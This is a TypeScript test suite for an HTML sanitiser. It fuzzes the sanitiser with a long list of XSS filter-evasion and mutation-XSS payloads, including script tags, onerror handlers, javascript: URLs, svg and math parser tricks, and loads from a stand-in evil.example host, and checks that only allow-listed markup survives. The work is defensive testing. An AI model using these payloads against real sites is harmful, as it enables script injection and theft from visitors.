// Hostile HTML, after OWASP's "XSS Filter Evasion Cheat Sheet" and published mutations of sanitised HTML.
import fc from "fast-check";
import { html as names, parseFragment, type DefaultTreeAdapterTypes as Tree } from "parse5";
import { describe, expect, test } from "vitest";
import { allowed, dropped, everywhere } from "@/lib/content/kept-html/allow-list";
import { atHome, keptWords, sanitised } from "@/lib/content/kept-html/sanitise";

/** What a browser makes of it in its place on a page, with scripts and without. */
function faultsOf(html: string): string[] {
  return [true, false].flatMap((scriptingEnabled) => {
    const { childNodes } = parseFragment(`<div>${html}</div>`, { scriptingEnabled });
    const [holder, ...others] = childNodes;
    if (holder === undefined || !("childNodes" in holder)) return ["no holder"];
    return [
      ...(others.length > 0 ? ["out of its holder"] : []),
      ...holder.childNodes.flatMap(faultsOfNode),
    ];
  });
}

function faultsOfNode(node: Tree.ChildNode): string[] {
  if (node.nodeName === "#text") return [];
  if (!("tagName" in node)) return [node.nodeName];
  const { tagName, namespaceURI, attrs, childNodes } = node;
  const known = Object.hasOwn(allowed, tagName) && namespaceURI === names.NS.HTML;
  const rules = { ...everywhere, ...allowed[tagName] };
  const wrong = attrs.filter(({ name, value }) => {
    if (name === "loading") return tagName !== "img" || value !== "lazy";
    if (!Object.hasOwn(rules, name)) return true;
    if (name === "href") return !/^(https?:\/\/|mailto:|\/(?![/\\]))/i.test(value);
    return name === "src" && !/^\/media\/[\w./-]+$/.test(value);
  });
  return [
    ...(known ? [] : [`<${tagName}>`]),
    ...wrong.map(({ name, value }) => `${name}=${value}`),
    ...childNodes.flatMap(faultsOfNode),
  ];
}

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<<script>alert(1)//<</script>",
  "<script/src=data:,alert(1)>",
  "<img src=x onerror=alert(1)>",
  "<img src=/media/a.jpg onload=alert(1)>",
  "<img/src='x'/onerror=alert(1)//",
  '<img src="javascript:alert(1)">',
  "<IMG SRC=`javascript:alert(1)`>",
  '<img src="https://counter.example/pixel.gif" width="1" height="1">',
  '<img srcset="https://evil.example/a.png 1x" src="/media/a.jpg">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://a.example" onclick="alert(1)" style="x:expression(1)" id="body" name="getElementById">x</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<iframe src="javascript:alert(1)"></iframe>',
  "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
  "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>",
  "<svg onload=alert(1)><g><a xlink:href='javascript:alert(1)'><text>x</text></a></g></svg>",
  "<svg><script>alert(1)</script><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math><mtext><img src=x onerror=alert(1)></mtext><mglyph><style><!--</style></mglyph></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<noscript><noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
  "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<table background="https://evil.example/x.png"><td background=javascript:alert(1)>x</table>',
  "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=https://evil.example/>",
  "<template><script>alert(1)</script></template>",
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>--><!--!><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<video poster=https://evil.example/x.png><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<x contenteditable onblur=alert(1)>x</x>",
  '<select><template><style><!--</style><a rel="--></style></select><img src=x onerror=alert(1)>">',
  "</div></div></main><h1>Out</h1><div>",
  "<li><section><li>a</li></section></li></div>x",
  "<a href=https://a.example><table><a href=https://b.example>x</a></table></a>",
  "<p><button><p>x</button><b><p><i><b><p>y",
  "<svg><p><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style>",
  "<constructor>x</constructor><__proto__ onclick=alert(1)>y</__proto__>",
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
];

describe("what readers get", () => {
  test.each(hostile)("of %s is of the allow-list alone", (html) => {
    expect(faultsOf(sanitised(html))).toEqual([]);
  });

  const piece = fc.oneof(
    fc.constantFrom(...hostile),
    fc
      .tuple(
        fc.constantFrom(
          ...["p", "div", "a", "b", "i", "li", "ul", "table", "tr", "td", "caption", "section"],
          ...["svg", "math", "mtext", "mglyph", "annotation-xml", "foreignObject", "desc", "title"],
          ...["style", "noscript", "template", "select", "option", "button", "form", "h1", "pre"],
          ...["dl", "dt", "ruby", "rt", "rp", "details", "summary", "font", "nobr", "body", "br"],
        ),
        fc.constantFrom("", "/", " id=x", ' title="</style>-->"', ' href="https://a.example"'),
        fc.constantFrom("<", "</"),
      )
      .map(([name, attribute, open]) => `${open}${name}${open === "<" ? attribute : ""}>`),
    fc.constantFrom("words", "<!--", "-->", "]]>", '"', "&lt;script&gt;", "&#0;", "\n", "&nbsp;"),
    fc.string({ unit: "binary", maxLength: 5 }),
  );

  test("is of the allow-list alone, stays in its place, and stays the same when it is read again", () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const clean = sanitised(pieces.join(""));
        expect(faultsOf(clean)).toEqual([]);
        expect(sanitised(clean)).toBe(clean);
      }),
      { numRuns: 2_000 },
    );
  });

  test("never has an element that runs, asks or sends something", () => {
    const names = Object.keys(allowed);
    for (const name of [...dropped, "svg", "math", "form", "body"])
      expect(names).not.toContain(name);
    expect(Object.values(allowed).flatMap(Object.keys)).not.toContain("style");
  });

  test.each([
    ["nested", "<div>".repeat(20_000)],
    ["nested within its limit of elements", `${"<div>".repeat(9_000)}deep`],
    ["misnested", Array.from({ length: 4_000 }, (_, at) => `<font color=${at}><p>`).join("")],
    ["never closed", "<a href=https://a.example>".repeat(3_800)],
    ["full of signs", "<".repeat(100_000)],
  ])("of what is %s comes in time", (_, html) => {
    const began = performance.now();
    expect(faultsOf(sanitised(html))).toEqual([]);
    expect(performance.now() - began).toBeLessThan(5_000);
  });

  test("of HTML that cannot be read is its words", () => {
    expect(sanitised(`The quay <b>opens</b> ${"<i>".repeat(12_000)}`)).toBe(
      "<p>The quay opens</p>",
    );
  });
});

describe("of an article of an older site, readers get", () => {
  test.each([
    [
      "headings below the headline",
      "<h1>A</h1><h2>B</h2><h6>C</h6>",
      "<h2>A</h2><h2>B</h2><h4>C</h4>",
    ],
    [
      "lines apart, whatever element divides them",
      "<section>One</section><article>Two</article>",
      "<div>One</div><div>Two</div>",
    ],
    [
      "links, tables and lists",
      '<ol start=3><li><a href="/articles/quay" target=_blank>Quay</a></ol><table class=x><tr><td colspan=2>1<td></table>',
      '<ol start="3"><li><a href="/articles/quay">Quay</a></li></ol><table><tbody><tr><td colspan="2">1</td><td></td></tr></tbody></table>',
    ],
    [
      "pictures of this site, and of others their words",
      '<img src="/media/ab/cd.jpg" width=800><img src="https://old.example/a.jpg" alt="Boats &amp; crews">',
      '<img src="/media/ab/cd.jpg" width="800" alt="" loading="lazy" />Boats &amp; crews',
    ],
    [
      "nothing that was hidden, and no gaps",
      '<p hidden>a</p><p style="display: none">b</p><p>&nbsp;<br></p><div><p></p></div><p>a<b> </b>c</p>',
      "  <p>a c</p>",
    ],
    ["words apart that an empty line divides", "One<div><br></div>Two", "One Two"],
    ["words of what has no kind", "<blink>Old <custom-tag>words</custom-tag></blink>", "Old words"],
  ])("%s", (_, html, clean) => expect(sanitised(html)).toBe(clean));
});

test("its words are one line for each block, as readers see them", () => {
  const html =
    "<h2>Caf&eacute; &amp; quay</h2><p>It <b>op</b>ens.<script>x</script></p><ul><li>a<li>b</ul>";
  expect(keptWords(html)).toBe("Café & quay\nIt opens.\na\nb");
});

test("elsewhere it has whole addresses", () => {
  const html = sanitised('<a href="/articles/a">He wrote href="/b"</a><img src="/media/a.jpg">');
  expect(atHome(html, "https://news.example.org")).toBe(
    '<a href="https://news.example.org/articles/a">He wrote href=&quot;/b&quot;</a>' +
      '<img src="https://news.example.org/media/a.jpg" alt="" loading="lazy" />',
  );
});
